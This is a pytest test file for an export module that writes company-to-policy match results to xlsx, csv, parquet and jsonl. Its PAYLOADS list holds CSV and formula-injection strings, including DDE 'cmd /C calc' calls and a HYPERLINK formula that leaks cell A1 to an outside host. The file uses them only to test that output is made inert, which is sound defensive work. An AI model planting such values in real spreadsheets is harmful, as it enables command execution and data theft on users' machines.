"""What is written: right in every format, inert, atomic, and a workbook that can be worked with."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlsxwriter
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import CalamineWorkbook

from matcher.export import files as export
from matcher.export.arrow import SCHEMA, from_batch, to_batch
from matcher.export.cells import COLUMNS, HEADERS, MAX_CELL, csv_text, like_formula, plain
from matcher.export.files import ProblemLine, output_format, write_errors, write_output
from matcher.export.words import RESULT_COLUMNS
from matcher.export.xlsx import write_result
from matcher.match_rows import MatchRow
from policies.errors import InputError
from policies.fields import registry
from tests.export_support import MISS, NOTHING, PROBLEMS, ROW, SUMMARY, match_row
from tests.support import AS_OF

ROWS = [ROW, MISS, NOTHING]
FORMATS = ("xlsx", "csv", "parquet", "jsonl")
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.cn?"&A1,"点我")', "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "﹦1+1", "−1",
    "\tvalue",
]  # fmt: skip


def written(folder: Path, suffix: str, rows: list[MatchRow] = ROWS, **changes: Any) -> Path:
    out = folder / f"结果.{suffix}"
    write_output(out, iter([to_batch(rows)]), iter(PROBLEMS), replace(SUMMARY, **changes))
    return out


def sheets(path: Path) -> dict[str, Worksheet]:
    book = openpyxl.load_workbook(path)
    return {name: book[name] for name in book.sheetnames}


def table(sheet: Worksheet) -> list[dict[str, Any]]:
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(map(str, header), row, strict=True)) for row in rows]


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


# --- formats


@pytest.mark.parametrize("name", ["a.XLSX", "b.csv", "c.Parquet", "d.jsonl"])
def test_the_suffix_names_the_format(name: str) -> None:
    assert output_format(Path(name)) == name.split(".")[1].lower()


@pytest.mark.parametrize(("name", "reason"), [("结果.xls", "不能写成“.xls”格式"), ("结果", "没有后缀")])
def test_another_suffix_is_refused_before_anything_is_read(name: str, reason: str, tmp_path: Path) -> None:
    def never() -> Iterator[Any]:
        raise AssertionError("read although the suffix is wrong")
        yield

    for write in (lambda out: write_output(out, never(), never(), SUMMARY), lambda out: write_errors(out, never())):
        with pytest.raises(InputError, match=reason) as error:
            write(tmp_path / name)
        assert "请用 .xlsx、.csv、.parquet 或 .jsonl" in str(error.value)
    assert list(tmp_path.iterdir()) == []


def test_jsonl_has_machine_names_and_values(tmp_path: Path) -> None:
    lines = written(tmp_path, "jsonl").read_text("utf-8").splitlines()
    first, miss, nothing = (json.loads(line) for line in lines)
    assert list(first) == list(COLUMNS)
    assert first["title"] == "某办法：设备奖补"
    assert (first["verdict"], first["score"], first["low_yuan"]) == ("possible", -0.25, 450_000.0)
    assert first["missing"] == ["employees", "revenue_wan"]
    assert (miss["kind"], miss["gap"], miss["high_yuan"]) == ("near_miss", "先认定：瞪羚企业", None)
    assert (nothing["kind"], nothing["rank"], nothing["title"]) == ("none", 0, "")
    assert "甲公司" in lines[0]


def test_parquet_has_the_stored_rows(tmp_path: Path) -> None:
    stored = pq.read_table(written(tmp_path, "parquet"))
    assert stored.schema.equals(SCHEMA)
    assert [row for batch in stored.to_batches() for row in from_batch(batch)] == ROWS


def test_parquet_of_many_small_batches_has_few_row_groups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "ROW_GROUP", 10)
    rows = [match_row(row=i) for i in range(25)]
    out = tmp_path / "a.parquet"
    write_output(out, (to_batch([row]) for row in rows), iter(()), SUMMARY)
    stored = pq.ParquetFile(out)
    assert [stored.metadata.row_group(i).num_rows for i in range(stored.num_row_groups)] == [10, 10, 5]
    assert stored.read().column("row").to_pylist() == list(range(25))


def test_csv_is_for_excel_in_chinese(tmp_path: Path) -> None:
    out = written(tmp_path, "csv")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    first, miss, nothing = csv_rows(out)
    assert list(first) == [HEADERS[name] for name in COLUMNS]
    assert first["政策和事项"] == "某办法：设备奖补"
    assert (first["类别"], first["结论"]) == ("匹配", "可能符合，还差信息")
    labels = [registry()[name].label for name in ("employees", "revenue_wan")]
    assert first["缺少的信息"] == "、".join(labels)
    assert first["须人工核实"] == "须符合产业政策；无失信"
    assert (first["预计金额下限（元）"], first["预计金额上限（元）"]) == ("450000", "12345678.9")
    assert first["排序分"] == "-0.25", "a number of our own is no formula"
    assert (miss["类别"], miss["结论"], miss["还差什么"]) == ("差一步", "暂不符合", "先认定：瞪羚企业")
    assert (nothing["类别"], nothing["结论"], nothing["名次"], nothing["排序分"]) == ("无匹配", "没有匹配", "", "")


@pytest.mark.parametrize("suffix", FORMATS)
def test_no_rows_at_all_make_a_readable_file(suffix: str, tmp_path: Path) -> None:
    out = tmp_path / f"空.{suffix}"
    write_output(out, iter(()), iter(()), replace(SUMMARY, companies=0, per_measure=(), notes=()))
    counts = {
        "xlsx": lambda: len(table(sheets(out)["匹配结果"])) + len(table(sheets(out)["问题清单"])),
        "csv": lambda: len(csv_rows(out)),
        "parquet": lambda: pq.read_table(out).num_rows,
        "jsonl": lambda: len(out.read_text("utf-8")),
    }
    assert counts[suffix]() == 0


@pytest.mark.parametrize("value", [float("inf"), float("nan")])
def test_a_sum_without_end_is_left_empty(value: float, tmp_path: Path) -> None:
    rows = [match_row(high_yuan=value)]
    assert json.loads(written(tmp_path, "jsonl", rows).read_text("utf-8"))["high_yuan"] is None
    assert csv_rows(written(tmp_path, "csv", rows))[0]["预计金额上限（元）"] == ""
    assert table(sheets(written(tmp_path, "xlsx", rows))["匹配结果"])[0]["预计上限（万元）"] is None


def test_a_fact_that_the_registry_no_longer_has_keeps_its_name(tmp_path: Path) -> None:
    assert csv_rows(written(tmp_path, "csv", [match_row(missing=["gone"])]))[0]["缺少的信息"] == "gone"


# --- the workbook


def test_workbook_has_its_sheets_in_order(tmp_path: Path) -> None:
    assert list(sheets(written(tmp_path, "xlsx"))) == ["汇总", "匹配结果", "问题清单", "说明"]


def test_result_sheet_says_what_the_rows_say(tmp_path: Path) -> None:
    first, miss, nothing = table(sheets(written(tmp_path, "xlsx"))["匹配结果"])
    assert (first["行号"], first["企业名称"], first["名次"]) == (3, "甲公司", 1)
    assert (first["支持事项"], first["所属政策"], first["事项编号"]) == ("设备奖补", "某办法", "p/m")
    assert (first["预计下限（万元）"], first["预计上限（万元）"]) == (45, 1234.56789)
    assert first["判断依据"] == "已满足：在山东\n待确认：从业人数"
    assert (miss["类别"], miss["结论"], miss["还差什么"]) == ("差一步", "暂不符合", "先认定：瞪羚企业")
    assert miss["预计下限（万元）"] is None
    assert (nothing["结论"], nothing["名次"], nothing["支持事项"]) == ("没有匹配", None, None)


def test_codes_are_texts_and_amounts_are_numbers(tmp_path: Path) -> None:
    sheet = sheets(written(tmp_path, "xlsx"))["匹配结果"]
    cells = {str(sheet.cell(1, i + 1).value): sheet.cell(2, i + 1) for i in range(len(RESULT_COLUMNS))}
    for name in ("统一社会信用代码", "政策编号", "事项编号"):
        assert (cells[name].data_type, cells[name].number_format) == ("s", "@")
    assert cells["统一社会信用代码"].value == "913701007456789012", "eighteen digits stay what they are"
    for name in ("预计下限（万元）", "预计上限（万元）"):
        assert (cells[name].data_type, cells[name].number_format) == ("n", "#,##0.00")
        assert cells[name].alignment.horizontal == "right"
    assert cells["排序分"].number_format == "0.000"
    assert cells["判断依据"].alignment.wrap_text
    assert cells["结论"].fill.fgColor.rgb == "FFFFF2CC"
    assert cells["企业名称"].font.name == "等线"


def test_tables_can_be_worked_with_on_screen_and_on_paper(tmp_path: Path) -> None:
    found = sheets(written(tmp_path, "xlsx"))
    for name, frozen, used, printed in (
        ("匹配结果", "C2", "A1:U4", "$A$1:$N$4"),
        ("问题清单", "A2", "A1:G5", "$A$1:$G$5"),
    ):
        sheet = found[name]
        assert (sheet.freeze_panes, sheet.auto_filter.ref) == (frozen, used)
        assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight) == ("landscape", 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.print_area == f"'{name}'!{printed}"
    widths = [found["匹配结果"].column_dimensions[letter].width for letter in "ABCK"]
    assert [round(width) for width in widths] == [8, 25, 22, 49]


def test_rows_are_as_high_as_their_texts(tmp_path: Path) -> None:
    rows = [match_row(reasons="短"), match_row(reasons="长" * 200), match_row(reasons="一｜二｜三")]
    sheet = sheets(written(tmp_path, "xlsx", rows))["匹配结果"]
    low, long, lines = (sheet.row_dimensions[i].height for i in (2, 3, 4))
    assert low < lines < long <= 300
    assert sheet.row_dimensions[3].customHeight, "a program that does not measure texts itself uses it too"


def test_summary_sheet_counts_and_adds_up(tmp_path: Path) -> None:
    sheet = sheets(written(tmp_path, "xlsx"))["汇总"]
    rows = [[cell for cell in row if cell is not None] for row in sheet.iter_rows(values_only=True)]
    said = {row[0]: row[1] for row in rows if len(row) > 1}
    assert said["读入的行"] == said["参与匹配的企业"] + said["被拒绝的行"] + said["跳过的行"] == 2_000
    assert (said["信用代码重复的行"], said["“差一步”的事项"], said["没有匹配事项的企业"]) == (4, 4_100, 11)
    assert (said["预计下限合计（万元）"], said["预计上限合计（万元）"]) == (90, 2_400)
    assert ["有“符合”事项的企业", 390, "占参与匹配企业的 20.0%"] in rows
    assert ["按 GB18030 读取"] in rows
    assert rows[-2:] == [["设备奖补", 2, 5, 90, 2400, "某办法", "p/m"], ["末项", 0, 3, "某办法", "p/z"]]
    assert "2026 年 6 月 15 日" in str(sheet["A2"].value)
    assert "名单.xlsx" in str(sheet["A2"].value)


def test_problem_sheet_lists_every_line_in_order(tmp_path: Path) -> None:
    lines = table(sheets(written(tmp_path, "xlsx"))["问题清单"])
    assert [(line["行号"], line["工作表"], line["级别"]) for line in lines] == [
        (5, "名单", "拒绝"), (5, "名单", "拒绝"), (9, "名单", "提示"), (5, "名单二", "拒绝"),
    ]  # fmt: skip
    assert (lines[0]["原值"], lines[0]["处理办法"]) == ("约五十", "请写成 50")


def test_explanations_name_every_column_verdict_and_origin(tmp_path: Path) -> None:
    found = sheets(written(tmp_path, "xlsx", dense=False))
    said = {row[0]: row[1] for row in found["说明"].iter_rows(values_only=True) if row[0]}
    for header in table(found["匹配结果"])[0]:
        assert said[header]
    for word in (
        "符合",
        "基本符合，须核实",
        "可能符合，还差信息",
        "方向性文件",
        "暂不符合",
        "没有匹配",
        "拒绝",
        "提示",
    ):
        assert said[word]
    assert "以主管部门批复为准" in said["金额"]
    assert "仅供参考" in said["参考"]
    assert (said["查询日期"], said["政策库版本"], said["结果校验码"]) == ("2026-06-15", "abc123def456", "f" * 64)
    assert "没有使用语义模型" in said["排序方法"]


def test_a_full_sheet_goes_on_in_the_next(tmp_path: Path) -> None:
    rows = [match_row(row=i) for i in range(10, 17)]
    out = tmp_path / "多.xlsx"
    write_result(out, iter([to_batch(rows[:5]), to_batch(rows[5:])]), iter(PROBLEMS), SUMMARY, rows_per_sheet=3)
    found = sheets(out)
    assert list(found) == ["汇总", "匹配结果", "匹配结果2", "匹配结果3", "问题清单", "问题清单2", "说明"]
    parts = [[row["行号"] for row in table(found[name])] for name in ("匹配结果", "匹配结果2", "匹配结果3")]
    assert parts == [[10, 11, 12], [13, 14, 15], [16]]
    assert [len(table(found[name])) for name in ("问题清单", "问题清单2")] == [3, 1]
    assert [found[f"匹配结果{n}"].auto_filter.ref for n in ("", 2, 3)] == ["A1:U4", "A1:U4", "A1:U2"]
    assert found["匹配结果3"].freeze_panes == "C2"


def test_another_reader_sees_the_same(tmp_path: Path) -> None:
    rows = CalamineWorkbook.from_path(written(tmp_path, "xlsx")).get_sheet_by_name("匹配结果").to_python()
    assert rows[1][:4] == [3.0, "甲公司", "913701007456789012", "匹配"]
    assert len(rows) == 4


def test_the_same_run_gives_the_same_bytes(tmp_path: Path) -> None:
    for suffix in FORMATS:
        first = written(tmp_path / "a", suffix).read_bytes()
        assert written(tmp_path / "b", suffix).read_bytes() == first
    properties = openpyxl.load_workbook(tmp_path / "a" / "结果.xlsx").properties
    assert properties.created.date() == AS_OF, "the query's day, not the clock's"


def test_rows_are_not_kept_in_memory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    kept: list[int] = []
    close = xlsxwriter.Workbook.close

    def count(book: xlsxwriter.Workbook) -> None:
        kept.extend(len(sheet.table) + len(sheet.row_info) for sheet in book.worksheets())
        close(book)

    monkeypatch.setattr(xlsxwriter.Workbook, "close", count)
    written(tmp_path, "xlsx", [ROW] * 50)
    assert kept == [0, 0, 0, 0]


# --- inert


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_a_spreadsheet_could_run_is_marked_in_csv(text: str) -> None:
    assert like_formula(plain(text)) or not plain(text).strip("\t\n")
    assert csv_text(text).startswith("'")


@pytest.mark.parametrize("text", ["甲公司", "C=3", "a-b", "10-20人", "1+1", "'=1", "", "（=1）", "某=", "“=1”"])
def test_ordinary_texts_stay_as_they_are(text: str) -> None:
    assert csv_text(text) == text


def test_no_formula_reaches_any_cell_of_any_file_for_people(tmp_path: Path) -> None:
    texts = ("sheet", "uscc", "company", "policy_id", "measure_id", "policy_title", "measure_name", "section",
             "amount_note", "reasons", "gap", "window", "next_step")  # fmt: skip
    rows = [match_row(missing=[text], manual=[text], **dict.fromkeys(texts, text)) for text in PAYLOADS]
    problems = [ProblemLine(i, text, text, text, text, text, "拒绝") for i, text in enumerate(PAYLOADS)]
    counts = tuple(replace(SUMMARY.per_measure[0], measure_name=text, policy_title=text) for text in PAYLOADS)
    summary = replace(SUMMARY, per_measure=counts, notes=tuple(PAYLOADS), input_name=PAYLOADS[0])
    for suffix in ("xlsx", "csv"):
        out, errors = tmp_path / f"a.{suffix}", tmp_path / f"e.{suffix}"
        write_output(out, iter([to_batch(rows)]), iter(problems), summary)
        write_errors(errors, iter(problems))
        for path in (out, errors):
            check = no_live_cell if suffix == "xlsx" else no_live_field
            assert check(path) > len(PAYLOADS)


def no_live_cell(path: Path) -> int:
    """Every cell is a text, a number or empty, and texts that look like formulas are marked for good."""
    texts = 0
    for sheet in openpyxl.load_workbook(path).worksheets:
        assert not sheet._hyperlinks
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in "sn" and cell.hyperlink is None
                if isinstance(cell.value, str):
                    texts += 1
                    assert cell.quotePrefix or not like_formula(cell.value)
    return texts


def no_live_field(path: Path) -> int:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        fields = [field for row in csv.reader(stream) for field in row]
    ours = {"-0.25"}
    assert not [field for field in fields if like_formula(field) and field not in ours]
    return len(fields)


@pytest.mark.parametrize("text", ["<r><f>1+1</f></r>", "<r>粗</r>", "a<b>&amp;c", "]]>", "_x0041_", "_x005F_", "  空 "])
def test_markup_in_a_text_stays_text(text: str, tmp_path: Path) -> None:
    out = written(tmp_path, "xlsx", [match_row(company=text)], input_name=text, notes=(text,))
    rows = CalamineWorkbook.from_path(out).get_sheet_by_name("匹配结果").to_python()
    assert rows[1][1] == text
    notes = [cell for row in CalamineWorkbook.from_path(out).get_sheet_by_name("汇总").to_python() for cell in row]
    assert text in notes


def test_what_a_cell_cannot_hold_is_removed_or_cut(tmp_path: Path) -> None:
    rows = [match_row(company="甲\x00\x0b\x1f\ufffe公司\r\n乙\r丙\t丁", next_step="长" * 40_000, reasons="𠮷" * 20_000)]
    for found in (
        table(sheets(written(tmp_path, "xlsx", rows))["匹配结果"])[0],
        csv_rows(written(tmp_path, "csv", rows))[0],
    ):
        assert found["企业名称"] == "甲公司\n乙\n丙\t丁"
        assert found["下一步"] == "长" * (MAX_CELL - 1) + "…"
        assert found["判断依据"] == "𠮷" * 16_383 + "…"
    whole = json.loads(written(tmp_path, "jsonl", rows).read_text("utf-8"))
    assert (len(whole["next_step"]), whole["company"]) == (40_000, rows[0].company)


def test_a_cut_text_with_an_apostrophe_still_fits() -> None:
    assert len(csv_text("=" + "1" * 40_000)) == MAX_CELL
    assert csv_text("=" + "1" * (MAX_CELL - 1)).endswith("…")


# --- errors file


def test_one_line_per_rejected_row(tmp_path: Path) -> None:
    expected = [
        (5, "名单", "从业人数；成立日期", "约五十；2031", "读不懂的数字；日期在将来", "请写成 50；请改正"),
        (5, "名单二", "行业", "造船业", "没有这个行业", "请填代码"),
    ]
    names = ("row", "sheet", "column", "value", "reason", "remedy")
    headers = ("行号", "工作表", "列", "原值", "原因", "处理办法")
    for suffix in FORMATS:
        write_errors(tmp_path / f"错.{suffix}", iter(PROBLEMS))
    lines = [json.loads(line) for line in (tmp_path / "错.jsonl").read_text("utf-8").splitlines()]
    assert lines == [dict(zip(names, line, strict=True)) for line in expected]
    assert pq.read_table(tmp_path / "错.parquet").to_pylist() == lines
    people = [dict(zip(headers, line, strict=True)) for line in expected]
    assert table(sheets(tmp_path / "错.xlsx")["问题清单"]) == people
    assert csv_rows(tmp_path / "错.csv") == [{**line, "行号": str(line["行号"])} for line in people]


@pytest.mark.parametrize("suffix", FORMATS)
def test_broken_characters_of_an_input_do_not_stop_the_errors_file(suffix: str, tmp_path: Path) -> None:
    out = tmp_path / f"错.{suffix}"
    write_errors(out, iter([replace(PROBLEMS[0], value="坏\ud800字")]))
    assert out.stat().st_size > 50


# --- atomic


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_failure_leaves_the_old_file_and_nothing_else(suffix: str, tmp_path: Path) -> None:
    out = written(tmp_path, suffix)
    before = out.read_bytes()

    def broken() -> Iterator[pa.RecordBatch]:
        yield to_batch([match_row(company="新")] * 3)
        raise RuntimeError("killed")

    with pytest.raises(RuntimeError, match="killed"):
        write_output(out, broken(), iter(PROBLEMS), SUMMARY)

    def broken_lines() -> Iterator[ProblemLine]:
        yield PROBLEMS[0]
        raise RuntimeError("killed")

    with pytest.raises(RuntimeError, match="killed"):
        write_errors(out, broken_lines())
    assert out.read_bytes() == before
    assert list(tmp_path.iterdir()) == [out]


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_finished_write_leaves_only_the_file(suffix: str, tmp_path: Path) -> None:
    out = written(tmp_path / "新" / "目录", suffix)
    assert list(out.parent.iterdir()) == [out]


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_place_that_cannot_be_written_is_said_in_chinese(suffix: str, tmp_path: Path) -> None:
    (tmp_path / "文件").write_text("x")
    with pytest.raises(InputError, match="写不了这个文件") as error:
        written(tmp_path / "文件", suffix)
    assert "请检查文件夹权限和磁盘空间" in str(error.value)


def test_memory_does_not_depend_on_the_size_of_a_batch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[int] = []
    monkeypatch.setattr(export, "BLOCK", 10)
    monkeypatch.setattr(export, "_shown", lambda batch: seen.append(batch.num_rows) or iter(()))
    write_output(tmp_path / "a.csv", iter([to_batch([ROW] * 25), to_batch([ROW] * 3)]), iter(()), SUMMARY)
    assert seen == [10, 10, 5, 3]
